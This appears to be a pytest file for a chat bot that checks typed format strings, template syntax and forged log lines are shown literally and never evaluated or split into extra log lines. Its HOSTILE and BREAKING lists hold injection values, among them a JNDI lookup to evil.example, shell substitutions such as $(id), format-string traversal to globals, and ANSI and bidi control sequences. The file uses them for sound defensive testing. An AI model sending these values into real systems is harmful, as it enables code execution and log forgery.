"""T34, T35: what looks like a format, a template or a line of a log stays what it is, all the way through the bot."""

from __future__ import annotations

import io
import json
import logging
import re
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, Final

import pytest
import structlog

from bot.core.plain import plain_card
from bot.logs import configure, printable
from bot.ports import Delivery, PlatformError
from tests.world import World, logins

HOSTILE: Final = (
    "{0.__class__.__mro__}",
    "{motion.__init__.__globals__[secret]}",
    "{}{}{}{!r:>999999}",
    "%s%n%x%(password)s",
    "{{ 7 * 7 }}{% for x in y %}{# c #}",
    "${jndi:ldap://evil.example/a} $HOME `id` $(id)",
    "2026-01-01T00:00:00Z [info] ballot recorded motion=1",
    '", "level": "critical", "event": "forged',
)
QUOTE: Final = '"'
BREAKING: Final = (
    "first\n2026-01-01T00:00:00Z [critical ] forged",
    "first\r\n    forged",
    "\x1b[2J\x1b[31mred\x07",
    "a\u2028forged\u0085forged",
    "\u202egnp.exe\u200b",
    "\ud800",
)


@pytest.fixture
def said(monkeypatch: pytest.MonkeyPatch) -> Iterator[Callable[[str], io.StringIO]]:
    """Everything that goes to standard error from when on a form is chosen."""
    before, root = structlog.get_config(), logging.getLogger()
    handlers, level = root.handlers[:], root.level

    def choose(form: Any) -> io.StringIO:
        stream = io.StringIO()
        monkeypatch.setattr(sys, "stderr", stream)
        configure(form)
        return stream

    yield choose
    structlog.configure(**before)
    root.handlers[:] = handlers
    root.setLevel(level)


@pytest.mark.parametrize("typed", HOSTILE)
async def test_t34_t35_what_looks_like_a_format_or_a_template_is_shown_as_it_was_typed_and_is_in_no_line_of_the_log(
    tmp_path: Path, said: Callable[[str], io.StringIO], typed: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    stream = said("json")
    world = await World.make(tmp_path)
    title = QUOTE + typed.replace(QUOTE, "") + QUOTE
    await world.ask("outsider", f"resolve --link https://example.org/1 --title {title} {typed}")
    await world.ask(logins()[1], f"object 1 {typed}")
    await world.ask(logins()[2], f"no 1 {typed}")
    await world.ask(logins()[3], typed)
    await world.ask(logins()[3], f"status {typed}")
    await world.ask("outsider", f"withdraw 1 {typed}")
    shown = [plain_card(card) for card in world.room.cards()]
    assert sum(typed in card for card in shown) >= 2
    assert not [card for card in shown if re.search(r"\b49\b", card)], "seven times seven was worked out"

    async def refuses(**_: object) -> Delivery:
        raise PlatformError(f"refused: {typed}")

    monkeypatch.setattr(world.room, "post", refuses)
    await world.ask("outsider", f"resolve --link https://example.org/2 --title Other {typed}")
    lines = [json.loads(line) for line in stream.getvalue().splitlines()]
    assert {line["event"] for line in lines} >= {"will retry"}
    assert {line["level"] for line in lines} <= {"info", "warning", "error"}
    assert {key for line in lines for key, value in line.items() if typed in str(value)} <= {"error"}


@pytest.mark.parametrize("form", ["json", "text"])
@pytest.mark.parametrize("typed", [*BREAKING, *HOSTILE])
def test_t34_no_value_and_no_error_makes_a_second_line_or_moves_the_cursor(
    said: Callable[[str], io.StringIO], form: str, typed: str
) -> None:
    stream = said(form)
    log, library = structlog.get_logger(), logging.getLogger("library")
    log.warning("refused", why=typed, where=[typed], error=repr(ValueError(typed)))
    library.error("refused: %s", typed)
    for_lines = stream.getvalue()
    assert for_lines.count("\n") == 2
    try:
        raise ValueError(typed)
    except ValueError as error:
        log.error("broke", exc_info=error)
        library.error("broke", exc_info=error)
    whole = stream.getvalue()
    assert [char for char in whole if not char.isprintable() and char != "\n"] == []
    heads = [line for line in whole.split("\n") if line and not line.startswith("    ")]
    assert len(heads) == 4
    if form == "json":
        read = [json.loads(line) for line in heads]
        assert [line["level"] for line in read] == ["warning", "error", "error", "error"]
        assert read[0]["why"] == typed
    else:
        stamped = re.compile(r"\d{4}-\d\d-\d\dT[\d:.]+Z \[(?:warning|error) *\] (?:refused|broke)")
        assert all(stamped.match(line) for line in heads)


def test_what_can_be_printed_is_left_as_it_is() -> None:
    assert printable("Größe 12 μm 日本語 😀 “x”") == "Größe 12 μm 日本語 😀 “x”"
    assert printable("a\tb\\n") == "a\\tb\\n"
